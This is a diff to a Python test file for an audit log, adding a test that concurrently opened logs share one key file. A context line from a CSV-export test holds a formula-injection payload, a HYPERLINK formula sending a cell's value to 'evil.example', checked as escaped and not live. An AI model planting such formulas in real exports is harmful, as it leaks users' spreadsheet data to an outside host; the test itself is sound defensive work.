@@ -242,3 +242,15 @@ def test_a_formula_typed_as_a_name_is_not_live_in_the_csv_export(tmp_path):
     assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
     audit.close()
+
+
+def test_processes_starting_together_share_one_key(tmp_path):
+    from concurrent.futures import ThreadPoolExecutor
+
+    with ThreadPoolExecutor(4) as pool:
+        logs = list(pool.map(lambda _: AuditLog(tmp_path / "kb" / "audit.sqlite"), range(4)))
+    logs[0].record("ana", "sign_in")
+    assert all(log.verify() is None for log in logs)
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["kb", "kb.audit-key"]  # no drafts
+    for log in logs:
+        log.close()
